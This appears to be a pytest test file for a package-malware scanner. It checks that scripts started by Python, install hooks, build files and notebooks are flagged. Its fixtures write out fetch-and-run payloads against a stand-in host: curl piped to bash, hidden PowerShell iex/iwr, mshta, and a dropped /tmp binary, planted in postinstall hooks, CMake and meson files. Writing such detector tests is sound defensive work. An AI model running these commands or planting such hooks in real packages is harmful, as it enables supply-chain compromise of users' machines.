"""Programs in other languages count when something runs them: their telling commands are read by the same rules."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import finding_of, rules_of, scan_sdist, scan_wheel
from wheelmark.scan import Context, Severity, Verdict
from wheelmark.scan.scripts import (
    Language,
    commands_of,
    is_python_script,
    is_telling,
    language_of,
    notebook_source,
    runs_npm,
)

FETCH = "curl -s https://get.example.invalid/i | bash"
WINDOWS = 'powershell -w hidden -c "iex (iwr https://get.example.invalid/i.ps1)"'
SETUP = "from setuptools import setup\nsetup(name='widget')\n"
PIECES = ["exec('", "nc ", "base64 ", "curl ", "run_command(", "execute_process(", "\\\n", '.Run "', "[[", "yarn -a "]
encoded_text = st.text(max_size=300).map(lambda text: text.encode("utf-8", "replace"))


def started(name: str, starter: str = "bash") -> str:
    return (
        f"import os, subprocess\nsubprocess.Popen(['{starter}', os.path.join(os.path.dirname(__file__), '{name}')])\n"
    )


@pytest.mark.parametrize(
    ("name", "script"),
    [
        ("run.sh", f"#!/bin/sh\nset -e\n{FETCH}\n"),
        ("runner", f"#!/usr/bin/env -S bash\n{FETCH}\n"),
        ("run.sh", "curl -s \\\n  https://get.example.invalid/i | \\\n  bash\n"),
        ("run.sh", "curl -so /tmp/tool https://get.example.invalid/tool && chmod +x /tmp/tool && /tmp/tool\n"),
        ("run.bat", f"@echo off\nrem a comment\n{WINDOWS}\n"),
        ("run.ps1", "# a comment\nInvoke-Expression (Invoke-WebRequest https://get.example.invalid/i.ps1)\n"),
        ("run.ps1", "\ufeffiex (iwr `\n https://get.example.invalid/i.ps1)\n"),
        ("run.js", f"const cp = require('child_process');\ncp.exec('{FETCH}');\n"),
        ("run.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Run "mshta https://get.example.invalid/i.hta", 0\n'),
    ],
)
def test_script_that_code_starts_runs_when_that_code_does(name: str, script: str) -> None:
    report = scan_wheel({"widget/__init__.py": started(name), f"widget/{name}": script})
    found = finding_of(report, "shell-download-run")
    assert (found.member, found.context, found.severity) == (f"widget/{name}", Context.IMPORT, Severity.CRITICAL)
    assert report.verdict is Verdict.MALICIOUS


def test_file_that_a_script_fetches_and_starts_later_is_known() -> None:
    script = (
        "wget -q -O /tmp/.cache-tool https://get.example.invalid/t\nchmod 755 /tmp/.cache-tool\n/tmp/.cache-tool &\n"
    )
    report = scan_wheel({"widget/__init__.py": started("run.sh"), "widget/run.sh": script})
    assert "dropped-file-run" in rules_of(report)


def test_script_starts_another_and_python_of_any_name() -> None:
    report = scan_wheel(
        {
            "widget/__init__.py": started("first.sh"),
            "widget/first.sh": "sh ./second.sh\n",
            "widget/second.sh": "python3 tables.dat\n",
            "widget/tables.dat": f"import os\nos.system('{FETCH}')\n",
        }
    )
    assert finding_of(report, "shell-download-run").member == "widget/tables.dat"


def test_script_that_nothing_starts_is_data() -> None:
    report = scan_wheel({"widget/__init__.py": "", "widget/run.sh": FETCH, "widget/run.ps1": WINDOWS})
    assert (report.verdict, report.findings) == (Verdict.BENIGN, ())


@pytest.mark.parametrize("script", [f"#!/bin/sh\n{FETCH}\n", f"#!python\nimport os\nos.system('{FETCH}')\n"])
def test_script_that_is_installed_runs_when_somebody_starts_it(script: str) -> None:
    installed = scan_wheel({"widget/__init__.py": "", "widget-1.data/scripts/go": script})
    named = scan_sdist({"setup.py": "from setuptools import setup\nsetup(scripts=['bin/go'])\n", "bin/go": script})
    for report in (installed, named):
        assert finding_of(report, "shell-download-run").context is Context.ENTRY
    assert rules_of(scan_sdist({"setup.py": SETUP, "bin/go": script})) == set()


@pytest.mark.parametrize("command", ["npm install", "npm ci --silent", "yarn", "cd js && pnpm i", "yarn add left"])
def test_hooks_of_package_json_run_when_code_installs_it(command: str) -> None:
    hooks = {"name": "x", "scripts": {"test": FETCH, "postinstall": "node after.js"}}
    files = {
        "setup.py": f"import subprocess\n{SETUP}subprocess.run('{command}', shell=True)\n",
        "js/package.json": json.dumps(hooks, indent=1),
        "js/after.js": f"require('child_process').execSync(`{FETCH}`)\n",
    }
    assert finding_of(scan_sdist(files), "shell-download-run").member == "widget-1/js/after.js"
    files["setup.py"] = SETUP
    assert rules_of(scan_sdist(files)) == set()


@pytest.mark.parametrize(
    ("backend", "name", "text"),
    [
        ("mesonpy", "meson.build", f"project('x')\nr = run_command('sh', '-c', '{FETCH}', check: true)\n"),
        ("scikit_build_core.build", "CMakeLists.txt", f'project(x)\nexecute_process(COMMAND sh -c "{FETCH}")\n'),
    ],
)
def test_commands_of_a_build_system_run_at_installation(backend: str, name: str, text: str) -> None:
    files = {"pyproject.toml": f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n', name: text}
    assert finding_of(scan_sdist(files), "shell-download-run").context is Context.INSTALL
    assert rules_of(scan_sdist({"setup.py": SETUP, name: text})) == set()


def test_ordinary_commands_of_a_build_are_no_facts() -> None:
    script = "./configure --prefix=$PREFIX\nmake -j4\nrm -rf build\nsed -i s/a/b/ x\npython setup.py build_ext\n"
    report = scan_sdist({"setup.py": f"import os\nos.system('sh build.sh')\n{SETUP}", "build.sh": script})
    assert report.verdict is Verdict.BENIGN


# Notebooks


def a_notebook(*cells: str, kind: str = "code") -> str:
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": kind, "source": c.splitlines(True)} for c in cells]})


@pytest.mark.parametrize("cell", [f"!{FETCH}", f"%%bash\n{FETCH}", f"x = !{FETCH}", f"%%time\n%system {FETCH}"])
def test_code_of_a_notebook_runs_when_somebody_asks(cell: str) -> None:
    report = scan_sdist({"setup.py": SETUP, "intro.ipynb": a_notebook("import os\n%matplotlib inline\n", cell)})
    assert finding_of(report, "shell-download-run").context is Context.ON_CALL
    assert rules_of(scan_sdist({"setup.py": SETUP, "docs/intro.ipynb": a_notebook(cell)})) == set()
    assert rules_of(scan_sdist({"setup.py": SETUP, "intro.ipynb": a_notebook(cell, kind="markdown")})) == set()


def test_notebook_becomes_python() -> None:
    source = notebook_source(a_notebook("x = 1\nif x:\n    !ls -l\n%time f()\n", "%%html\n<b>\n", "y = !pwd").encode())
    assert source == b"import os\nx = 1\nif x:\n    os.system('ls -l')\npass\n\ny = os.system('pwd')"


# What is told apart, and bounds


@pytest.mark.parametrize(
    ("path", "raw", "language"),
    [
        ("a/run.SH", b"", Language.SHELL),
        ("a/run", b"#!/bin/dash\n", Language.SHELL),
        ("a/run", b"#! /usr/bin/env node\n", Language.JAVASCRIPT),
        ("a/run", b"#!/usr/bin/env python3\n", None),
        ("a/readme.txt", b"#!", None),
        ("CMakeLists.txt", b"", Language.CMAKE),
    ],
)
def test_language_is_told_by_name_or_first_line(path: str, raw: bytes, language: Language | None) -> None:
    assert language_of(path, raw) is language
    assert is_python_script(raw) is (b"python" in raw)


@pytest.mark.parametrize("command", ["npm test", "echo npm", "yarn build", "./npm install"])
def test_other_commands_run_no_hooks(command: str) -> None:
    assert not runs_npm(command)


@settings(max_examples=200)
@given(
    st.sampled_from(Language),
    st.binary(max_size=300) | st.text(max_size=300).map(lambda t: t.encode("utf-8", "replace")),
)
def test_any_script_is_read(language: Language, raw: bytes) -> None:
    for line, command in commands_of(language, raw):
        assert line >= 1
        is_telling(command)
        runs_npm(command)
    notebook_source(raw)


@pytest.mark.parametrize("language", Language)
@pytest.mark.parametrize(
    "piece", ["exec('", "nc ", "base64 ", "curl ", "run_command(", "execute_process(", "\\\n", '.Run "', "[["]
)
def test_scripts_that_are_traps_are_read_in_time(language: Language, piece: str) -> None:
    started_at = time.process_time()
    for _, command in commands_of(language, piece.encode() * (300_000 // len(piece))):
        is_telling(command)
        runs_npm(command)
    assert time.process_time() - started_at < 5
